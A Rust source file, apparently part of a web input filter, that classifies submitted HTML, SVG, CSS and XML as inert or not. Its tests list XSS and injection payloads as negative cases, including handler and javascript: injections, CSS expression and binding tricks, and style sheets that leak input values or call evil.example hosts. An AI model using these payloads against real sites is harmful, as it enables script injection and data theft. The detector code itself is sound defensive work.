//! Well-formed markup whose every element and attribute is inert: what rich-text editors,
//! CMSs, forms builders and Markdown renderers submit (`<p style="text-align: center;">`,
//! `<a href="https://x/?a=1&amp;b=2">`, `<input type="email">`, inline SVG icons, MathML).
//! After the grammar found nothing that executes in such a value, there is nothing left for
//! a statistical model to second-guess: the ML stage skips it (see `Detectors::ml_candidate`).
//!
//! The test is strict on purpose: one element that runs, loads or re-parses something
//! (script, style, iframe, SVG `use`/animation, `foreignObject`…), one attribute that can load
//! or run something, one URL with another scheme, a conditional comment, a processing
//! instruction other than the XML declaration, an unclosed tag or code-like text outside the
//! tags makes the value "not inert", and the model judges it. Unknown element names (custom
//! elements, XML vocabularies, Word's `o:p`) render as inert inline content, so their
//! attributes decide.

use super::css;
use super::entity::decode_entities;
use super::lower_into;

/// Bytes examined at most; longer values are not called inert.
const MAX_INERT: usize = 8192;
/// Tags examined at most.
const MAX_INERT_TAGS: usize = 256;
/// Attributes examined per tag.
const MAX_INERT_ATTRS: usize = 32;

/// Elements that run script, load a document, plug-in, style sheet or behaviour, animate
/// attributes, re-parse their content in another namespace, or carry raw text a filter may
/// misread: never inert, whatever their attributes. Any other name (custom elements, XML
/// vocabularies, Word's `o:p`) is an unknown element that a browser renders as plain inline
/// content, so its attributes decide.
pub(super) fn active_element(name: &[u8]) -> bool {
    super::html::executes_by_itself(name)
        || matches!(
            name,
            b"style"
                | b"param"
                | b"xml"
                | b"use"
                | b"image"
                | b"feimage"
                | b"animate"
                | b"animatemotion"
                | b"animatetransform"
                | b"animatecolor"
                | b"set"
                | b"discard"
                | b"foreignobject"
                | b"annotation-xml"
                | b"mglyph"
                | b"malignmark"
                | b"maction"
                | b"noscript"
                | b"noembed"
                | b"noframes"
                | b"xmp"
                | b"plaintext"
                | b"template"
                | b"html"
                | b"head"
                | b"body"
                | b"stylesheet"
                | b"transform"
        )
}

/// Attributes that load, run or re-target something, or that animate other attributes: never
/// inert whatever their value (handlers `on…` are refused separately).
fn active_attribute(name: &[u8]) -> bool {
    matches!(
        name,
        b"srcdoc"
            | b"formaction"
            | b"datasrc"
            | b"datafld"
            | b"dataformatas"
            | b"attributename"
            | b"values"
            | b"from"
            | b"to"
            | b"by"
            | b"begin"
            | b"dynsrc"
            | b"lowsrc"
            | b"http-equiv"
            | b"content"
            | b"xlink:href"
            | b"xmlns:xlink"
            | b"behavior"
            | b"is"
    )
}

/// A URL-valued attribute value that names no scheme or only a passive one. Whitespace is
/// ignored and case folded, as URL parsing does for schemes.
fn passive_url(v: &str) -> bool {
    let b = v.as_bytes();
    let Some(colon) = memchr::memchr(b':', b) else {
        return true;
    };
    let before = &b[..colon];
    // a colon after a path, query or fragment is not a scheme (`/a:b`, `?t=10:30`)
    if before.iter().any(|c| matches!(c, b'/' | b'?' | b'#')) {
        return true;
    }
    // the longest scheme and MIME type compared below fit these buffers
    let mut sbuf = [0u8; 7];
    let scheme = fold_prefix(before, &mut sbuf);
    let mut mbuf = [0u8; 11];
    let mime = fold_prefix(&b[colon + 1..], &mut mbuf);
    matches!(scheme, b"http" | b"https" | b"mailto" | b"tel")
        || (scheme == b"data"
            && ["image/png", "image/jpeg", "image/gif", "image/webp"]
                .iter()
                .any(|m| mime.starts_with(m.as_bytes())))
}

/// The first `buf.len()` non-whitespace bytes of `src`, lower-cased into `buf`.
fn fold_prefix<'a>(src: &[u8], buf: &'a mut [u8]) -> &'a [u8] {
    let mut n = 0;
    for &c in src.iter().filter(|c| !c.is_ascii_whitespace()) {
        if n == buf.len() {
            break;
        }
        buf[n] = c.to_ascii_lowercase();
        n += 1;
    }
    &buf[..n]
}

/// A `style` value with plain declarations only: no escapes, comments, blocks, at-rules, and
/// `url()` only to http(s) or a path (not to an `.svg`/`.htc` that can carry script).
fn plain_style(v: &str) -> bool {
    if v.bytes().any(|c| {
        matches!(
            c,
            b'\\' | b'*' | b'{' | b'}' | b'[' | b']' | b'@' | b'<' | b'>' | b'`'
        )
    }) || css::dangerous(v)
    {
        return false;
    }
    plain_urls(v)
}

/// Whether every `url(` in CSS text `v` loads from http(s) or a path (not an `.svg`/`.htc`
/// that can carry script).
fn plain_urls(v: &str) -> bool {
    // most styles have no `url(`: decide without a lower-cased copy
    let b = v.as_bytes();
    if !memchr::memchr_iter(b'(', b).any(|p| p >= 3 && b[p - 3..p].eq_ignore_ascii_case(b"url")) {
        return true;
    }
    let lower = v.to_ascii_lowercase();
    lower.match_indices("url(").take(16).all(|(p, _)| {
        let t = lower[p + 4..].trim_start_matches([' ', '"', '\'']);
        let end = t.find(')').unwrap_or(t.len());
        let target = &t[..end];
        (target.starts_with("https://") || target.starts_with("http://") || target.starts_with('/'))
            && !target.contains(".svg")
            && !target.contains(".htc")
    })
}

/// Is one attribute (lower-case name, entity-decoded value) inert?
fn inert_attribute(name: &[u8], value: &str) -> bool {
    // `(click)`, `[value]`, `[(ngModel)]`: Angular's binding syntax, compiled when the app is
    // built; to a browser an attribute of that odd name, which no event or URL reads.
    let name = angular_binding(name).unwrap_or(name);
    let well_formed = name.first().is_some_and(u8::is_ascii_alphabetic)
        && name
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b':' | b'.'));
    if !well_formed || name.starts_with(b"on") || active_attribute(name) {
        return false;
    }
    inert_value(name, value)
}

/// The name inside Angular's binding brackets (`(click)`, `[value]`, `[(ngModel)]`), if
/// `name` is one.
fn angular_binding(name: &[u8]) -> Option<&[u8]> {
    let inner = match name {
        [b'[', b'(', inner @ .., b')', b']']
        | [b'(', inner @ .., b')']
        | [b'[', inner @ .., b']'] => inner,
        _ => return None,
    };
    // (the property bound may be dotted: `[attr.aria-label]`, `[class.active]`)
    (inner.first().is_some_and(u8::is_ascii_alphabetic)
        && inner
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'.')))
    .then_some(inner)
}

/// Whether an attribute value is free of markup, script syntax, and controls a character
/// reference smuggled in (`6&#09;6`, `'foo&#10;;color:red'`): honest attribute values carry
/// none of them.
fn plain_value(value: &str) -> bool {
    !value
        .bytes()
        .any(|c| matches!(c, b'<' | b'>' | b'`' | b'\\') || c < 0x20)
}

/// Is an attribute value inert, for an attribute (lower-case `name`) that is not active by
/// its name?
fn inert_value(name: &[u8], value: &str) -> bool {
    if !plain_value(value) {
        return false;
    }
    match name {
        b"style" => plain_style(value),
        _ => passive_url(value) || inert_link_script(value),
    }
}

/// `javascript:void(0)`, `javascript:;`: the script an editor puts in a menu link that a
/// handler elsewhere drives; it runs nothing ([`super::uri::inert_script`]).
fn inert_link_script(v: &str) -> bool {
    let t = v.trim().as_bytes();
    t.len() <= 32
        && t.len() >= 11
        && t[..11].eq_ignore_ascii_case(b"javascript:")
        && super::uri::inert_script(
            &t[11..]
                .iter()
                .filter(|c| !c.is_ascii_whitespace())
                .map(u8::to_ascii_lowercase)
                .collect::<Vec<u8>>(),
        )
}

/// Whether `value` holds at least one tag and is well-formed markup of inert elements and
/// attributes, with text between tags that carries no backtick, backslash or script scheme.
pub fn inert_markup(value: &str) -> bool {
    let b = value.as_bytes();
    if b.len() > MAX_INERT || memchr::memchr(b'<', b).is_none() {
        return false;
    }
    if attribute_free_data(value) {
        return true;
    }
    let mut i = 0;
    let mut tags = 0;
    while i < b.len() {
        let Some(p) = memchr::memchr(b'<', &b[i..]) else {
            return tags > 0 && plain_text(&b[i..]);
        };
        let lt = i + p;
        if !plain_text(&b[i..lt]) {
            return false;
        }
        match b.get(lt + 1) {
            Some(c) if c.is_ascii_alphabetic() || *c == b'/' => {}
            // `a < b`, `<3`, `<=`: text
            Some(c) if !matches!(c, b'!' | b'?' | b'%') => {
                i = lt + 1;
                continue;
            }
            None => return tags > 0,
            Some(b'!' | b'?') => match inert_declaration(b, lt) {
                Some(next) => {
                    tags += 1;
                    i = next;
                    continue;
                }
                None => return false,
            },
            // template tags (`<%`) and anything else
            _ => return false,
        }
        tags += 1;
        if tags > MAX_INERT_TAGS {
            return false;
        }
        // (a style block is judged with its text, which the tag scan would read as markup)
        if let Some(next) = inert_style_block(b, lt) {
            i = next;
            continue;
        }
        match inert_tag(value, lt) {
            Some(next) => i = next,
            None => return false,
        }
    }
    tags > 0
}

/// Elements [`attribute_free_data`] never calls data: those that run or load something by
/// themselves, hold a style sheet or a template, open SVG or MathML (whose parsing rules
/// differ), or read their content as raw text.
fn script_capable(name: &[u8]) -> bool {
    super::html::executes_by_itself(name)
        || matches!(
            name,
            b"style"
                | b"template"
                | b"svg"
                | b"math"
                | b"noscript"
                | b"noembed"
                | b"noframes"
                | b"xmp"
                | b"plaintext"
                | b"textarea"
                | b"title"
        )
}

/// Deepest nesting [`attribute_free_data`] follows.
const MAX_DATA_DEPTH: usize = 32;

/// From `k` (after a start tag's name): the attributes an XML document gives its elements
/// without giving them behaviour, each `name="value"` after a blank, and the index after
/// the last (`k` itself when there are none). Namespace declarations (`xmlns`, `xmlns:p`)
/// to any namespace but XHTML's, SVG's and MathML's (the only ones a browser renders with
/// their own rules), XML's own `xml:lang` and `xml:space`, XML Schema's `xsi:type`,
/// `xsi:nil` and `xsi:schemaLocation`, and the plain `id` and `version`. An event handler,
/// a URL, a style or any other attribute makes the tag no data (`None`): in an HTML page an
/// unknown element still runs its `onclick`. Values hold no markup, escape, reference or
/// script scheme.
fn xml_own_attributes(b: &[u8], mut k: usize) -> Option<usize> {
    for _ in 0..MAX_INERT_ATTRS {
        let blanks = b[k..]
            .iter()
            .take_while(|c| c.is_ascii_whitespace())
            .count();
        let at = k + blanks;
        let n = b[at..]
            .iter()
            .take(65)
            .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.' | b':'))
            .count();
        if blanks == 0 || n == 0 {
            return Some(k);
        }
        let name = &b[at..at + n];
        let prefixed = |p: &[u8]| name.len() > p.len() && name[..p.len()].eq_ignore_ascii_case(p);
        let own = prefixed(b"xmlns:")
            || XML_OWN_ATTRIBUTES
                .iter()
                .any(|a| name.eq_ignore_ascii_case(a));
        let q = *b.get(at + n + 1)?;
        if !own || b.get(at + n) != Some(&b'=') || !matches!(q, b'"' | b'\'') {
            return None;
        }
        let open = at + n + 2;
        let close = open + memchr::memchr(q, &b[open..])?;
        let value = &b[open..close];
        if value.len() > 512
            || value
                .iter()
                .any(|&c| matches!(c, b'<' | b'>' | b'`' | b'\\' | b'&' | b'\0'))
            || !attribute_value_plain(value)
        {
            return None;
        }
        k = close + 1;
    }
    None
}

/// The attributes [`xml_own_attributes`] reads by name (`xmlns:p` by its prefix).
const XML_OWN_ATTRIBUTES: &[&[u8]] = &[
    b"xmlns",
    b"xml:lang",
    b"xml:space",
    b"xsi:type",
    b"xsi:nil",
    b"xsi:schemalocation",
    b"xsi:nonamespaceschemalocation",
    b"id",
    b"version",
];

/// A value of [`xml_own_attributes`]: no script scheme and no namespace a browser renders
/// (XHTML's runs `<x:script>`, SVG's and MathML's have their own parsing and handlers).
fn attribute_value_plain(value: &[u8]) -> bool {
    let lower: Vec<u8> = value
        .iter()
        .filter(|c| !c.is_ascii_whitespace())
        .map(u8::to_ascii_lowercase)
        .collect();
    ![
        &b"javascript:"[..],
        b"vbscript:",
        b"data:",
        b"w3.org/1999/xhtml",
        b"w3.org/2000/svg",
        b"w3.org/1998/math",
    ]
    .iter()
    .any(|w| memchr::memmem::find(&lower, w).is_some())
}

/// `<xml><id>42</id></xml>`, `<?xml version="1.0"?><order><qty>2</qty></order>`: a document
/// of element tags without a single attribute (but XML's own, see
/// [`xml_own_attributes`]), balanced, from no [`script_capable`] element,
/// with plain text between the tags (no parenthesis, brace, backtick, backslash, `&lt;`-like
/// or numeric character reference, or script scheme). An XML, configuration or API payload:
/// no handler, URL or style can be written without an attribute, and none of these elements
/// runs its text, so nothing in it executes whatever the element names (IE's `<xml>` data
/// islands and `<body>` act only through attributes).
pub fn attribute_free_data(value: &str) -> bool {
    let b = value.as_bytes();
    if b.len() > MAX_INERT || memchr::memchr(b'<', b).is_none() {
        return false;
    }
    let mut stack: [([u8; 32], usize); MAX_DATA_DEPTH] = [([0; 32], 0); MAX_DATA_DEPTH];
    let mut depth = 0;
    let mut elements = 0;
    let mut i = 0;
    // (each turn moves past a `<`: the loop ends with the value)
    while let Some(p) = memchr::memchr(b'<', &b[i..]) {
        let lt = i + p;
        if !data_text(&b[i..lt]) {
            return false;
        }
        if matches!(b.get(lt + 1), Some(b'!' | b'?')) {
            match inert_declaration(b, lt) {
                Some(next) => {
                    i = next;
                    continue;
                }
                None => return false,
            }
        }
        let end_tag = b.get(lt + 1) == Some(&b'/');
        let ns = lt + 1 + usize::from(end_tag);
        let n = b[ns..]
            .iter()
            .take(33)
            .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.' | b':'))
            .count();
        if n == 0 || n > 32 || !b[ns].is_ascii_alphabetic() {
            return false;
        }
        let mut nbuf = [0u8; 32];
        let full = lower_into(&b[ns..ns + n], &mut nbuf);
        let local = match memchr::memrchr(b':', full) {
            Some(c) => &full[c + 1..],
            None => full,
        };
        if local.is_empty() || script_capable(local) {
            return false;
        }
        let mut k = ns + n;
        // (a start tag may declare namespaces and carry XML's own attributes)
        if !end_tag {
            match xml_own_attributes(b, k) {
                Some(next) => k = next,
                None => return false,
            }
        }
        let self_closing = !end_tag && (b[k..].starts_with(b"/>") || b[k..].starts_with(b" />"));
        if self_closing {
            k += if b[k] == b' ' { 3 } else { 2 };
        } else if b.get(k) == Some(&b'>') {
            k += 1;
        } else {
            // an attribute, a blank or an unclosed tag
            return false;
        }
        let void = !end_tag && matches!(local, b"br" | b"hr" | b"wbr");
        if end_tag {
            if depth == 0 || stack[depth - 1].0[..stack[depth - 1].1] != *full {
                return false;
            }
            depth -= 1;
        } else if !self_closing && !void {
            if depth == MAX_DATA_DEPTH {
                return false;
            }
            stack[depth].0[..full.len()].copy_from_slice(full);
            stack[depth].1 = full.len();
            depth += 1;
            elements += 1;
        } else {
            elements += 1;
        }
        i = k;
    }
    elements > 0 && depth == 0 && data_text(&b[i..])
}

/// Text between the tags of [`attribute_free_data`]: words, numbers and punctuation of
/// data, with no parenthesis, brace, bracket, backtick or backslash (script syntax), no
/// character reference but `&amp;`, `&quot;` and `&apos;`, and no script scheme.
fn data_text(t: &[u8]) -> bool {
    !t.iter().any(|&c| {
        matches!(
            c,
            b'(' | b')' | b'{' | b'}' | b'[' | b']' | b'`' | b'\\' | b'>' | b'\0'
        )
    }) && memchr::memchr_iter(b'&', t).all(|p| {
        let r = &t[p + 1..];
        [&b"amp;"[..], b"quot;", b"apos;"]
            .iter()
            .any(|e| r.len() >= e.len() && r[..e.len()].eq_ignore_ascii_case(e))
            || !r
                .first()
                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'#')
    }) && plain_text(t)
        && !memchr::memchr_iter(b':', t)
            .any(|p| p >= 8 && t[p - 8..=p].eq_ignore_ascii_case(b"vbscript:"))
}

/// Longest style sheet text [`inert_style_block`] reads.
const MAX_SHEET: usize = 4096;

/// `<style>.btn{color:#fff}</style>` at `b[lt] == '<'`, from a WYSIWYG editor or an e-mail
/// template: the index after its `</style>` when the block only styles the page. The start
/// tag carries nothing or a `type`/`media` attribute, and the sheet has no markup, escape
/// or backtick (a `</style>` break-out needs a `<`), no at-rule but those that group or
/// declare rules (`@media`, `@font-face`, `@keyframes`, `@supports`, `@page`: `@import`
/// loads another sheet), nothing [`css::dangerous`] runs or loads, no input-value selector
/// that leaks a token ([`css::selector_exfiltration`]), and `url()` only to http(s) or a
/// path.
fn inert_style_block(b: &[u8], lt: usize) -> Option<usize> {
    let rest = &b[lt + 1..];
    if !(rest.len() > 5 && rest[..5].eq_ignore_ascii_case(b"style")) {
        return None;
    }
    // `"><style>…`: a block placed by breaking out of the page's attribute is no editor's
    let head = b[..lt].trim_ascii_end();
    if memchr::memchr(b'<', head).is_none() && head.ends_with(b">") {
        return None;
    }
    let gt = memchr::memchr(b'>', rest)?;
    if !style_attributes(&rest[5..gt]) {
        return None;
    }
    let body_at = gt + 1;
    let window = &rest[body_at..rest.len().min(body_at + MAX_SHEET + 8)];
    let end = memchr::memmem::find_iter(window, b"</")
        .find(|&p| window.len() >= p + 8 && window[p + 2..p + 8].eq_ignore_ascii_case(b"style>"))?;
    let sheet = std::str::from_utf8(&window[..end]).ok()?;
    let sb = sheet.as_bytes();
    if sb.iter().any(|&c| matches!(c, b'<' | b'\\' | b'`'))
        || memchr::memchr_iter(b'@', sb).take(32).any(|p| {
            let r = &sb[p + 1..];
            ![
                &b"media"[..],
                b"font-face",
                b"keyframes",
                b"supports",
                b"page",
            ]
            .iter()
            .any(|w| super::page::starts_with_fold(r, w))
        })
        || !attribute_selectors_closed(sb)
        || css::dangerous(sheet)
        || css::selector_exfiltration(sheet)
        || !plain_urls(sheet)
        // (a sheet that loads from another host, `url(//evil.example/?)`, reports the visit)
        || memchr::memmem::find_iter(sb, b"//").any(|p| p == 0 || sb[p - 1] != b':')
    {
        return None;
    }
    Some(lt + 1 + body_at + end + 8)
}

/// Whether every `[` of a sheet closes with a `]` before any `;`, `{` or `}` and no `]` stands
/// alone: attribute selectors (`a[href^="http"]`). A bracket left open in a declaration
/// (`font-family:foo[bar;color:green;}#y];color:red`) makes the CSS parser skip rules it
/// should read, a parse-error trick that rewrites what the page shows.
fn attribute_selectors_closed(sb: &[u8]) -> bool {
    let mut open = false;
    for &c in sb {
        match c {
            b'[' if !open => open = true,
            b']' if open => open = false,
            b'[' | b']' => return false,
            b';' | b'{' | b'}' if open => return false,
            _ => {}
        }
    }
    !open
}

/// The attributes of a style start tag after its name: none, or `type` naming CSS and a
/// `media` query, in either quote or none.
fn style_attributes(a: &[u8]) -> bool {
    if a.first().is_some_and(|c| !c.is_ascii_whitespace()) {
        return false;
    }
    let lower: Vec<u8> = a.iter().take(256).map(u8::to_ascii_lowercase).collect();
    if lower.len() < a.len() {
        return false;
    }
    let mut r = lower.trim_ascii();
    for _ in 0..2 {
        if r.is_empty() {
            return true;
        }
        let value_at = if r.starts_with(b"type=") {
            5
        } else if r.starts_with(b"media=") {
            6
        } else {
            return false;
        };
        let v = &r[value_at..];
        let (value, next) = match v.first() {
            Some(&q @ (b'"' | b'\'')) => {
                let Some(close) = memchr::memchr(q, &v[1..]) else {
                    return false;
                };
                (&v[1..=close], &v[close + 2..])
            }
            _ => {
                let e = v
                    .iter()
                    .position(u8::is_ascii_whitespace)
                    .unwrap_or(v.len());
                (&v[..e], &v[e..])
            }
        };
        let ok = if value_at == 5 {
            value == b"text/css"
        } else {
            value.iter().all(|&c| {
                c.is_ascii_alphanumeric()
                    || matches!(c, b' ' | b'(' | b')' | b':' | b',' | b'-' | b'.')
            })
        };
        if !ok {
            return false;
        }
        r = next.trim_ascii();
    }
    r.is_empty()
}

/// A plain comment (`<!-- note -->`, not an IE conditional one, no markup inside), the HTML
/// doctype, or an XML declaration (`<?xml version="1.0"?>`) at `b[lt] == '<'`: the index
/// after it. Internal DTD subsets, other processing instructions and conditional comments
/// are not inert.
fn inert_declaration(b: &[u8], lt: usize) -> Option<usize> {
    let rest = &b[lt..];
    if rest.starts_with(b"<!--") {
        let end = memchr::memmem::find(&rest[4..], b"-->")? + 4;
        let body = &rest[4..end];
        let lower: Vec<u8> = body.iter().take(64).map(u8::to_ascii_lowercase).collect();
        if memchr::memchr2(b'<', b'>', body).is_some()
            || memchr::memmem::find(&lower, b"[if").is_some()
            || memchr::memchr(b'#', body.get(..1)?).is_some()
        {
            return None;
        }
        return Some(lt + end + 3);
    }
    let gt = memchr::memchr(b'>', rest)?;
    let decl: Vec<u8> = rest[..gt + 1].iter().map(u8::to_ascii_lowercase).collect();
    let doctype = decl == b"<!doctype html>";
    let xml_decl = decl.starts_with(b"<?xml ")
        && decl.ends_with(b"?>")
        && !decl[2..].iter().any(|&c| matches!(c, b'<' | b'['));
    (doctype || xml_decl).then_some(lt + gt + 1)
}

/// Text between tags: no backtick or backslash (script and escape syntax) and no script
/// scheme.
fn plain_text(t: &[u8]) -> bool {
    !t.iter().any(|&c| matches!(c, b'`' | b'\\'))
        && !memchr::memchr_iter(b':', t)
            .any(|p| p >= 10 && t[p - 10..=p].eq_ignore_ascii_case(b"javascript:"))
}

/// Mustaches read by [`plain_mustaches`].
const MAX_MUSTACHES: usize = 32;

/// Whether every `{{` in `b` opens a property read: spaces, a dotted identifier path,
/// spaces, `}}` (at most [`MAX_MUSTACHES`]).
fn plain_mustaches(b: &[u8]) -> bool {
    let mut n = 0;
    let mut from = 0;
    while let Some(p) = memchr::memmem::find(&b[from..], b"{{") {
        n += 1;
        if n > MAX_MUSTACHES {
            return false;
        }
        let mut k = from + p + 2;
        while k < b.len() && b[k] == b' ' {
            k += 1;
        }
        let st = k;
        while k < b.len() && (super::is_ident(b[k]) || (b[k] == b'.' && k > st)) {
            k += 1;
        }
        if k == st || !super::is_ident_start(b[st]) || b[k - 1] == b'.' {
            return false;
        }
        while k < b.len() && b[k] == b' ' {
            k += 1;
        }
        if !b[k..].starts_with(b"}}") {
            return false;
        }
        from = k + 2;
    }
    true
}

/// Parse the tag at `s[lt] == '<'`; the index after its `>` if it is inert.
fn inert_tag(s: &str, lt: usize) -> Option<usize> {
    let b = s.as_bytes();
    let mut i = lt + 1;
    let end_tag = b.get(i) == Some(&b'/');
    if end_tag {
        i += 1;
    }
    let ns = i;
    while i < b.len() && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'-' | b':')) {
        i += 1;
        if i - ns > 32 {
            return None;
        }
    }
    // the loop above bounds the name to 32 bytes
    let mut nbuf = [0u8; 33];
    let full = lower_into(&b[ns..i], &mut nbuf);
    // the local name of a prefixed element (`svg:script` is a script)
    let name = match memchr::memchr(b':', full) {
        Some(c) => &full[c + 1..],
        None => full,
    };
    let well_formed =
        name.first().is_some_and(u8::is_ascii_alphabetic) && memchr::memchr(b':', name).is_none();
    // an editor's video embed: an `https:` iframe with presentational attributes only
    let iframe = name == b"iframe" && !end_tag;
    let mut https_src = false;
    // An SVG `use` of a symbol in the same document (`<use href="#icon-cart">`, an icon
    // sprite) copies inert shapes; one that references another document is active.
    let use_fragment = name == b"use";
    // A `<meta>`'s `content` acts only under `http-equiv` (a refresh, a cookie, a policy),
    // which is active by its name in any order; beside `name`, `property` or `charset` it
    // is the page's description (`<meta name="viewport" content="width=device-width">`).
    let meta = name == b"meta" && !end_tag;
    // A `<template>` with no attributes (no `shadowrootmode`) holds content a framework
    // compiles (Vue, Alpine): inert when every `{{…}}` in the value only reads a property
    // (`{{ message }}`, `{{ user.name }}`); `{{constructor.constructor('…')()}}` is not.
    // (the HTML element only: `</xsl:template>` closes an XSLT stylesheet's template)
    let template =
        full == b"template" && (end_tag || b.get(i) == Some(&b'>')) && plain_mustaches(b);
    let exempt = iframe || use_fragment || template || (end_tag && name == b"iframe");
    if !well_formed || (active_element(name) && !exempt) {
        return None;
    }
    for _ in 0..MAX_INERT_ATTRS {
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        match b.get(i)? {
            _ if iframe && !https_src && matches!(b[i], b'>' | b'/') => return None,
            b'>' => return Some(i + 1),
            b'/' if b.get(i + 1) == Some(&b'>') => return Some(i + 2),
            _ if end_tag => return None,
            _ => {}
        }
        let an = i;
        while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'=' | b'>' | b'/') {
            i += 1;
        }
        let attr_raw = &b[an..i];
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        let mut raw = "";
        if b.get(i) == Some(&b'=') {
            i += 1;
            while i < b.len() && b[i].is_ascii_whitespace() {
                i += 1;
            }
            match b.get(i)? {
                &q @ (b'"' | b'\'') => {
                    let close = i + 1 + memchr::memchr(q, &b[i + 1..])?;
                    raw = s.get(i + 1..close)?;
                    i = close + 1;
                }
                _ => {
                    let st = i;
                    while i < b.len() && !b[i].is_ascii_whitespace() && b[i] != b'>' {
                        i += 1;
                    }
                    raw = s.get(st..i)?;
                }
            }
        }
        let mut abuf = [0u8; 64];
        if use_fragment {
            let lname = lower_into(attr_raw, &mut abuf);
            if matches!(lname, b"href" | b"xlink:href") {
                if !raw.trim_start().starts_with('#') {
                    return None;
                }
                // A fragment of this document: nothing to load.
                continue;
            }
        }
        if iframe {
            let lname = lower_into(attr_raw, &mut abuf);
            if lname == b"src" {
                let v = raw.trim();
                https_src = v.len() > 8 && v[..8].eq_ignore_ascii_case("https://");
            } else if !super::html::embed_attribute(lname) {
                return None;
            }
        }
        if meta && attr_raw.eq_ignore_ascii_case(b"content") {
            if !inert_value(b"content", &decode_entities(raw)) {
                return None;
            }
            continue;
        }
        // (the name a `<meta>` describes is no URL: `twitter:card`, `og:image`)
        if meta
            && [&b"name"[..], b"property", b"itemprop"]
                .iter()
                .any(|n| attr_raw.eq_ignore_ascii_case(n))
        {
            if !plain_value(&decode_entities(raw)) {
                return None;
            }
            continue;
        }
        let inert = if attr_raw.len() <= abuf.len() {
            inert_attribute(lower_into(attr_raw, &mut abuf), &decode_entities(raw))
        } else {
            // a name this long is rare: lower-case it on the heap
            inert_attribute(&attr_raw.to_ascii_lowercase(), &decode_entities(raw))
        };
        if !inert {
            return None;
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::inert_markup;

    #[test]
    fn editor_markup_is_inert() {
        for v in [
            "<p style=\"text-align: center;\">Centered</p>",
            "<a href=\"https://example.com/search?q=shoes&amp;page=2\">results</a>",
            "<a href=\"https://example.com/page?x=1&y=2\">link</a>",
            "<img src=\"https://cdn.example.com/a.jpg\" style=\"float: left; margin: 10px;\">",
            "<form action=\"/subscribe\" method=\"post\"><input type=\"email\" name=\"e\"><button>Go</button></form>",
            "<span style=\"background-color: rgb(255, 255, 0);\">hl</span>",
            "<svg viewBox=\"0 0 24 24\"><path d=\"M12 2L2 7l10 5z\"/></svg>",
            "<math><mi>x</mi><mo>&lt;</mo><mn>5</mn></math>",
            "<textarea name=\"msg\" rows=\"4\"></textarea>",
            "if a < b then <em>c</em>",
            "<note><to>Tove</to><from>Jani</from></note>",
            "<svg class=\"icon\"><use href=\"#icon-cart\"></use></svg>",
            "<svg><use xlink:href=\"#star\"/></svg>",
            "<?xml version=\"1.0\"?><root><a>1</a></root>",
            "<p class=\"MsoNormal\">Word<o:p></o:p></p>",
            "<!-- note --><p>x</p>",
            "<my-card data-id=\"4\">x</my-card>",
            "<p><iframe src=\"https://www.youtube.com/embed/x\" width=\"560\" allowfullscreen></iframe></p>",
            "<style>.btn{color:#fff}</style>",
            "<a href=\"javascript:void(0)\">Menu</a>",
            "<style type=\"text/css\">.red { color: red; } a[href^=\"http\"] { color: blue }</style><p class=\"red\">x</p>",
            "<style media=\"screen and (max-width: 600px)\">@media print { p { margin: 0 } }</style>",
            // a `<meta>`'s `content` without `http-equiv` describes the page
            "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">",
            "<meta content=\"summary\" name=\"twitter:card\" />",
            "<META property=\"og:image\" CONTENT=\"https://example.com/a.png\">",
            "<meta charset=\"utf-8\"><meta name=\"description\" content=\"A shop\">",
        ] {
            assert!(inert_markup(v), "{v:?}");
        }
    }

    #[test]
    fn active_or_odd_markup_is_not_inert() {
        for v in [
            "<svg><use href=\"https://evil.tld/x.svg#a\"></use></svg>",
            "<svg><use xlink:href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
            "plain text",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"java&#115;cript:alert(1)\">x</a>",
            "<form action=\"javascript:alert(1)\">",
            "<div style=\"font-family:foo[bar;color:red\">x</div>",
            "<div style=\"background:url(test.svg)\">x</div>",
            "<p>x</p><!--[if IE]><b>y</b><![endif]-->",
            "<svg><use href=\"//x/a.svg#b\"/></svg>",
            "<b class=x",
            "<p>`${x}`</p>",
            "<xml src=\"x.xml\"></xml>",
            "for (i=1;i<6;i++) {",
            "<a href=\"http://6&#09;6.0x7.147/\">x</a>",
            "<div style=\"font-family:'foo&#10;;color:red;';\">x",
            "<meta http-equiv=\"refresh\" content=\"0\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<meta content=\"0;url=javascript:alert(1)\" HTTP-EQUIV=\"refresh\">",
            "<meta name=\"x\" content=\"javascript:alert(1)\">",
            "<meta name=\"x\" content=\"x\" onload=\"alert(1)\">",
            "<meta name=\"x\" content=\"<script>alert(1)</script>\">",
            "<meta name=\"x`\" content=\"y\">",
            "<div content=\"x\">y</div>",
            "<svg:script>alert(1)</svg:script>",
            "<svg><foreignObject><p>x</p></foreignObject></svg>",
            "<!--[if IE]><p>x</p><![endif]-->",
            "<!DOCTYPE x [<!ENTITY a \"b\">]><x>&a;</x>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"x.xsl\"?><x/>",
            "<!--#exec cmd=\"ls\" -->",
            "<iframe src=\"http://example.org/\"></iframe>",
            "<iframe name=\"t\" src=\"https://example.org/\"></iframe>",
            "<iframe></iframe>",
            "<style>@import url(//evil.example/x.css);</style>",
            "<style>body{background:url(javascript:alert(1))}</style>",
            "<style>p{width:expression(alert(1))}</style>",
            "<style>p{-moz-binding:url(//x/b.xml#x)}</style>",
            "<style>p{color:red}</style><script>alert(1)</script>",
            "<style>p{color:red}</style",
            "<a href=\"javascript:void(0);alert(1)\">x</a>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<style>p{color:red}",
            "<style onload=alert(1)>p{color:red}</style>",
            "<style>#x{font-family:foo[bar;color:green;}#y];color:red;{}</style>",
            "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
            "<style>p{x:\\65 xpression(alert(1))}</style>",
            "\"><style>body{background:url(\"//evil.com/?\")}</style>",
